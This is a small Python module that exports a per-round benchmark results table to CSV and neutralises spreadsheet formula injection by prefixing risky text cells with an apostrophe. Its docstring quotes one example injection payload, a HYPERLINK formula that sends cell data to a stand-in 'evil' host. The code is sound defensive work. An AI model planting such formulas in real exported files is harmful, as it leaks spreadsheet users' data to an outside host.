"""CSV for spreadsheets: the tidy per-round table with every text cell made inert.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage
return) as a formula, and benchmark names, methods and notes come from results files that anyone can write
(``=HYPERLINK("http://evil/?"&A1)``). Such a text cell gets a leading ``'``, the OWASP-recommended escape
that spreadsheets show as the plain text; numbers stay numbers, so ``-0.5`` is still a number.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula, prefixed with ``'``; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_csv(table: pd.DataFrame) -> str:
    """``table.to_csv(index=False)`` with every text cell (and column name) neutralised."""
    from pandas.api.types import is_numeric_dtype

    safe = table.copy()
    for column in safe.columns:
        if not is_numeric_dtype(safe[column].dtype):  # object or string columns (pandas 3 infers str)
            safe[column] = safe[column].map(neutralise)
    safe.columns = [neutralise(str(c)) for c in safe.columns]
    return safe.to_csv(index=False)
